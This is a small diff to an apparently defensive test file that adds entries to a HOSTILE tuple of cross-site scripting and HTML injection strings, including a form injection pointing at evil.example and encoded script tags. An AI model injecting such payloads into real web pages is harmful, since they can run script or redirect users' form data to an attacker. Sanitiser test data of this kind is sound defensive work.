@@ -26,6 +26,9 @@ HOSTILE = (
     "]]>&lt;svg/onload=alert(1)&gt;",
     "javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>",
+    "<plaintext>",
+    "</td></tr></table><form action=//evil.example>",
+    "&#60;script&#62;\ufffe\uffff",
 )
 
 
